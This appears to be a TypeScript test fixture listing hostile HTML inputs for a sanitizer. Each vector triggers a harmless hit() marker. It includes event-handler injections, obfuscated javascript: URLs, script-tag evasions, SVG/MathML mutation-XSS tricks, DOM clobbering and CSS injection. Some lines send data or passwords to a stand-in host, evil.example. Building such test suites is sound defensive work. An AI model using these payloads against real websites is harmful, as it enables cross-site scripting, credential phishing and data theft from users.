/**
 * Attack vectors for the sanitizer. Each calls `hit()` when it runs. Grouped by technique: handlers, URLs, foreign
 * content, mutation during parsing, styles, DOM clobbering and breaking out.
 */

const CALL = 'hit()';

/** Handlers that run without or with little interaction. */
const HANDLED: readonly (readonly [tag: string, handlers: string])[] = [
  ['img src=x', 'onerror onload onloadstart onloadend onmouseover onpointerenter onfocus'],
  ['svg', 'onload onclick onbegin onfocusin'],
  ['body', 'onload onpageshow onresize onhashchange onscroll onfocus onblur'],
  ['video src=x', 'onerror onloadstart oncanplay onplay'],
  ['audio src=x', 'onerror onloadstart ondurationchange'],
  ['input autofocus', 'onfocus onblur oninput oninvalid'],
  ['select autofocus', 'onfocus onchange'],
  ['textarea autofocus', 'onfocus onkeydown'],
  ['details open', 'ontoggle onbeforetoggle'],
  ['marquee', 'onstart onfinish onbounce'],
  ['iframe src=/', 'onload'],
  ['object data=x', 'onerror onload'],
  ['p', 'onclick onmouseenter onpointerover onanimationstart ontransitionend onwheel oncopy onpaste ondrag'],
  ['a href=#', 'onclick onfocus onauxclick'],
  ['div contenteditable', 'onfocus oninput onbeforeinput'],
  ['table', 'onmouseover onbeforecopy'],
  ['style', 'onload onerror'],
  ['link rel=stylesheet href=x', 'onload onerror'],
  ['button popovertarget=x', 'onclick onbeforetoggle'],
  ['dialog open', 'onclose oncancel'],
];

const handlers = HANDLED.flatMap(([tag, names]) =>
  names.split(' ').map((name) => `<${tag} ${name}="${CALL}">words`),
);

/** Spellings of a script URL. */
const ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `&#106;avascript:${CALL}`,
  `&#x6A&#x61&#x76&#x61script:${CALL}`,
  `javascript&colon;${CALL}`,
  `java&Tab;script:${CALL}`,
  `javascript://%0a${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==',
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${CALL}"/>`,
  'blob:null/1',
  'filesystem:http://localhost/temporary/x.html',
  `feed:javascript:${CALL}`,
  `view-source:javascript:${CALL}`,
  `jar:javascript:${CALL}!/`,
];
const CARRIERS = [
  (url: string) => `<a href="${url}">go</a>`,
  (url: string) => `<img src="${url}">`,
  (url: string) => `<form action="${url}"><button>go</button></form>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
];
const addresses = ADDRESSES.flatMap((url) => CARRIERS.map((carrier) => carrier(url)));

const scripts = [
  `<script>${CALL}</script>`,
  `<SCRIPT>${CALL}</SCRIPT>`,
  `<script src="/hostile.js"></script>`,
  `<script type="module">${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script/x>${CALL}</script>`,
  `<script\n>${CALL}</script\n>`,
  `<<script>${CALL}//<</script>`,
  `"><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `]]><script>${CALL}</script>`,
  `<!--><script>${CALL}</script>-->`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `<?xml version="1.0"?><script>${CALL}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<template><script>${CALL}</script></template>`,
  `<xmp><script>${CALL}</script></xmp>`,
  `<plaintext><script>${CALL}</script>`,
];

const foreign = [
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href="data:text/javascript,${CALL}"/></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y="20">go</text></a></svg>`,
  `<svg><animate onbegin="${CALL}" attributeName="x" dur="1s"/></svg>`,
  `<svg><set attributeName="href" to="javascript:${CALL}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${CALL}'/></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></iframe></foreignObject></svg>`,
  `<svg><image href="x" onerror="${CALL}"/></svg>`,
  `<svg><style><img src=x onerror=${CALL}></style></svg>`,
  `<svg></p><style><a title="</style><img src=x onerror=${CALL}>">`,
  `<svg><p><style><!--</style><img src=x onerror=${CALL}>--></style>`,
  `<math><a xlink:href="javascript:${CALL}">go</a></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CALL}&gt;">`,
  `<math><mtext><table><mglyph><style><math href="javascript:${CALL}">go</math>`,
  `<math><annotation-xml encoding="text/html"><script>${CALL}</script></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL}>`,
  `<table><tr><td><svg><desc><td><style><img src=x onerror=${CALL}></style>`,
  `<svg><title><iframe srcdoc="<script>parent.${CALL}</script>"></iframe></title></svg>`,
];

const frames = [
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="/hostile.html"></iframe>`,
  `<object data="/hostile.html"></object>`,
  `<embed src="/hostile.html">`,
  `<frameset><frame src="javascript:${CALL}"></frameset>`,
  `<portal src="/hostile.html"></portal>`,
  `<applet code="x"></applet>`,
  `<base href="https://evil.example/"><a href="x">go</a>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
  `<link rel="import" href="/hostile.html">`,
  `<link rel="stylesheet" href="/hostile.css">`,
  `<link rel="preload" as="script" href="/hostile.js">`,
];

const forms = [
  '<form action="https://evil.example"><input name="password" type="password"><button>Sign in</button></form>',
  `<form id="x"></form><button form="x" formaction="javascript:${CALL}">go</button>`,
  `<input type="image" src="x" onerror="${CALL}">`,
  `<isindex action="javascript:${CALL}" type="submit">`,
  '<input name="csrf" form="pd-form">',
  '<select name="locale"><option>x</select>',
  '<textarea name="body"></textarea>',
  '<button type="submit" form="pd-form">Save</button>',
];

const styles = [
  '<style>@import "/hostile.css";</style>',
  '<style>.pd-root{display:none!important}</style>',
  '<style>*{background:url(https://evil.example/read)}</style>',
  '<p style="position:fixed;inset:0;z-index:99999">cover</p>',
  `<p style="background:url(javascript:${CALL})">x</p>`,
  `<p style="width:expression(${CALL})">x</p>`,
  '<p style="behavior:url(x.htc)">x</p>',
  '<p style="-moz-binding:url(x.xml)">x</p>',
  '<div class="pd-panel" part="panel">a panel of its own</div>',
  '<div id="pd-panel" slot="playerdesk-outlet">x</div>',
  '<slot name="playerdesk-outlet"></slot>',
];

const names = [
  '<img name="cookie"><img name="body">',
  '<form name="documentElement"></form>',
  '<a id="host"></a><a id="host" name="events" href="x">x</a>',
  '<form id="desk"><input name="account"></form>',
  '<img id="attributes"><img name="childNodes">',
  '<p id="__proto__">x</p>',
  '<form><input name="attributes"><input name="innerHTML"></form>',
  '<a href="#" name="location">x</a>',
];

const strange = [
  '<p data-playerdesk-root="modal" aria-hidden="true" aria-label="x" role="alert">x</p>',
  '<x-evil is="y" onclick="hit()">kept words</x-evil>',
  '<playerdesk-widget type="deposit">x</playerdesk-widget>',
  '<p>\u0000<img src=x onerror=hit()></p>',
  '<p title="`><img src=x onerror=hit()>">x</p>',
  '<img src=x onerror\u000c=hit()>',
  '<img src=x\u000bonerror=hit()>',
  '<img/src=x/onerror=hit()>',
  '<img src="x` `<script>hit()</script>"` `>',
  '<a href="https://evil.example" target="_top" rel="opener">go</a>',
  '<a href="//evil.example" target="_self">go</a>',
  '<a href="\\\\evil.example">go</a>',
  '<a href="https://evil.example" ping="https://evil.example/ping" download="x">go</a>',
  '<img src="x" srcset="https://evil.example/2x 2x" usemap="#m"><map name="m"><area href="javascript:hit()" coords="0,0,9,9"></map>',
  `<b>${'<i>'.repeat(600)}deep${'</i>'.repeat(600)}</b>`,
  '<p>5 < 6 & <b>so',
  '&lt;img src=x onerror=hit()&gt;',
  '&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;',
  '<keygen autofocus onfocus=hit()>',
  '<video><source onerror=hit()></video>',
  '<picture><source srcset=x onerror=hit()><img src=x></picture>',
  '<template shadowrootmode="open"><img src=x onerror=hit()></template>',
  '<div popover id=x onbeforetoggle=hit()>x</div>',
  '<input type=hidden accesskey=x onclick=hit()>',
  '<bdo dir=rtl><img src=x onerror=hit()></bdo>',
];

/** All vectors by technique. */
export const HOSTILE_HTML: readonly (readonly [kind: string, html: string])[] = Object.entries({
  handlers,
  addresses,
  scripts,
  foreign,
  frames,
  forms,
  styles,
  names,
  strange,
}).flatMap(([kind, vectors]) => vectors.map((html) => [kind, html] as const));
